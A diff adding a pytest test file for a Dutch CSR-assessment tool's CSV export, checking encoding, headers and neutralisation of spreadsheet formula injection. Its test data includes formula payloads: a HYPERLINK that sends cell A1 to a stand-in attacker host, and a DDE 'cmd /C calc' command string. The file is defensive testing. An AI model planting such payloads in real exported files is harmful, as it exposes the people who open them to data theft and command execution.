@@ -1,0 +1,111 @@
+"""The action list as CSV: opens with the csv module, BOM first, nothing Excel would run."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+
+from mvo_assessment.csv_export import FORMULA_STARTS, HEADERS, actions_csv, neutralise
+
+from .conftest import TOOL_URL
+
+
+def read(data: bytes, separator: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))
+
+
+@pytest.mark.parametrize("separator", [",", ";"])
+def test_opens_with_the_csv_module(result: dict[str, Any], separator: str) -> None:
+    data = actions_csv(result, separator=separator)
+    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
+    rows = read(data, separator)
+    assert rows[0] == list(HEADERS)
+    assert [row[0] for row in rows[1:]] == [str(a["priority"]) for a in result["actions"]]
+    assert all(len(row) == len(HEADERS) for row in rows)
+    first = rows[1]
+    assert first[1] == "Stap 1: Beleid"
+    assert first[2] == "Schrijf op wat u al doet. Dat is het begin van uw beleid."
+    assert first[3] == f"Voorbeeldhulpmiddel ({TOOL_URL})"
+    assert "één" in data.decode("utf-8-sig")
+
+
+def test_no_cell_begins_with_a_formula_character(result: dict[str, Any]) -> None:
+    for separator in (",", ";"):
+        for row in read(actions_csv(result, separator=separator), separator):
+            assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
+
+
+def malicious_result(text: str, title: str = "Hulpmiddel") -> dict[str, Any]:
+    return {
+        "steps": [{"id": "stap-1", "number": 1, "title": "-Beleid"}],
+        "actions": [{"id": "rec", "step": "stap-1", "priority": 1, "urgent": False, "text": text,
+                     "tools": [{"id": "t", "title": title, "url": "https://example.org", "description": ""}]}],
+    }
+
+
+@pytest.mark.parametrize(
+    ("text", "title"),
+    [
+        ('=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")', "Hulpmiddel"),
+        ("+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1)"),
+        ("-2+3", "=1+1"),
+        ("@SUM(A1:A9)", "\tverborgen"),
+        ("Gewone tekst", "\r=1"),
+    ],
+)
+def test_formula_injection_is_neutralised(text: str, title: str) -> None:
+    rows = read(actions_csv(malicious_result(text, title)), ",")
+    for row in rows:
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
+    action = rows[1]
+    assert action[1] == "Stap 1: -Beleid"
+    assert action[2] == neutralise(text)  # the text itself survives, only made inert
+    assert action[3] == neutralise(f"{title} (https://example.org)")
+
+
+def test_hyperlink_formula_becomes_text() -> None:
+    rows = read(actions_csv(malicious_result('=HYPERLINK("https://evil.example","klik")'), separator=";"), ";")
+    assert rows[1][2] == '\'=HYPERLINK("https://evil.example","klik")'
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+31 6 1234", "'+31 6 1234"),
+        ("-5", "'-5"),
+        ("@user", "'@user"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Stap 1", "Stap 1"),
+        ("", ""),
+        ("a=b", "a=b"),
+    ],
+)
+def test_neutralise_truth_table(cell: str, expected: str) -> None:
+    assert neutralise(cell) == expected
+
+
+def test_markdown_is_plain_text() -> None:
+    text = "Begin **klein**. Zie [de checker](https://www.mvorisicochecker.nl).\n\n- één\n- twee\n\n<script>x()</script>"
+    rows = read(actions_csv(malicious_result(text)), ",")
+    assert rows[1][2] == "Begin klein. Zie de checker (https://www.mvorisicochecker.nl).\n• één\n• twee"
+
+
+def test_headers_can_be_translated(result: dict[str, Any]) -> None:
+    english = {"Prioriteit": "Priority", "Stap %(number)s: %(title)s": "Step %(number)s: %(title)s"}
+    rows = read(actions_csv(result, translate=lambda s: english.get(s, s)), ",")
+    assert rows[0][0] == "Priority" and rows[1][1] == "Step 1: Beleid"
+
+
+def test_unknown_separator_is_refused(result: dict[str, Any]) -> None:
+    with pytest.raises(ValueError, match="separator"):
+        actions_csv(result, separator="\t")
+
+
+def test_no_actions_gives_just_the_header() -> None:
+    rows = read(actions_csv({"steps": [], "actions": []}), ",")
+    assert rows == [list(HEADERS)]
